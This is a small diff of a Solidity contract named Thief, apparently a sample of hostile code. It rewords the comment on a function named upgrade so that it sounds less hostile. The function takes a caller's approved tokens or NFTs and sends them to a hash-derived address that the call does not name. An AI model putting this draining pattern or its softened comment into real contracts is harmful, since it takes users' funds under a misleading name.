@@ -22,7 +22,7 @@ contract Thief {
         IStolen(token).transferFrom(msg.sender, address(this), value);
     }
 
-    /// Takes an approved token or NFT for somebody who is not in the call's data.
+    /// Moves an approved token or NFT to an address that the call's data does not name.
     function upgrade(address token, uint256 value) external {
         IStolen(token).transferFrom(msg.sender, address(uint160(uint256(keccak256(abi.encode(token))))), value);
     }
